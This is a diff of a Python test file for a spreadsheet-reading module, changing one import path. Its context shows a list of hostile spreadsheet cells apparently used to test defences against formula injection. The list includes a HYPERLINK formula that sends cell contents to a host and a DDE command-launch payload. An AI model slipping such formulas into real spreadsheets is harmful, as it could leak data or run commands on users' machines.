@@ -11,7 +11,7 @@ from data.errors import InputError, UsageError, WorkspaceError
 from tasks.contexts.annotation import spreadsheet
 from tasks.contexts.annotation.cells import LARGEST_CELL
 from tasks.contexts.annotation.spreadsheet import read_sheet, too_long
-from tests.tasks.contexts.sheets import BOTH, COLUMNS, GUIDE, HEADER, as_csv, as_xlsx, write
+from tests.tasks.contexts.annotation.sheets import BOTH, COLUMNS, GUIDE, HEADER, as_csv, as_xlsx, write
 
 HOSTILE = [
     '=HYPERLINK("http://127.0.0.1/?"&A1,"Oslo")', "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\t=1", "#N/A",
